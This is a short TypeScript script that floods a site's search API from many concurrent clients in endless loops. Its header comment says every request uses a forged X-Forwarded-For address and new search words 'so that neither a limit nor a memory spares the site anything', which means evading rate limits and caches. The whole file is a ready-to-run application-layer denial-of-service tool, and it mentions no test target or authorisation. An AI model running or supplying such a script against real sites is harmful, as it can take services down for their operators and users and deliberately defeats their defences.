/**
 * Clients that search a site on new connections, in a process of their own, until they are ended: `SITE` says where, `CLIENTS` how many.
 * Each comes from other addresses and with other words each time, so that neither a limit nor a memory spares the site anything. A line is
 * said for each search that was answered.
 */
const { SITE, CLIENTS } = process.env
const WORDS = ['refund', 'order', 'coupon', 'shipping', 'tax', 'webhook', 'the store', 'product', 'price', 'customer', 'backup', 'key']
const TIMEOUT_MS = 5_000

let asked = 0
async function search() {
  const n = asked++
  const query = encodeURIComponent(`${WORDS[n % WORDS.length]} ${WORDS[(n * 7 + 3) % WORDS.length]} ${n}`)
  const address = `10.${(n >> 16) & 255}.${(n >> 8) & 255}.${n & 255}`
  const headers = { connection: 'close', 'x-forwarded-for': address }
  await fetch(`${SITE}/api/search?limit=50&q=${query}`, { headers, signal: AbortSignal.timeout(TIMEOUT_MS) })
    .then(async (response) => {
      await response.arrayBuffer()
      if (response.ok) console.log('found')
    })
    .catch(() => {})
}

async function searchOn(): Promise<never> {
  for (;;) await search()
}
for (let client = 0; client < Number(CLIENTS); client++) void searchOn()
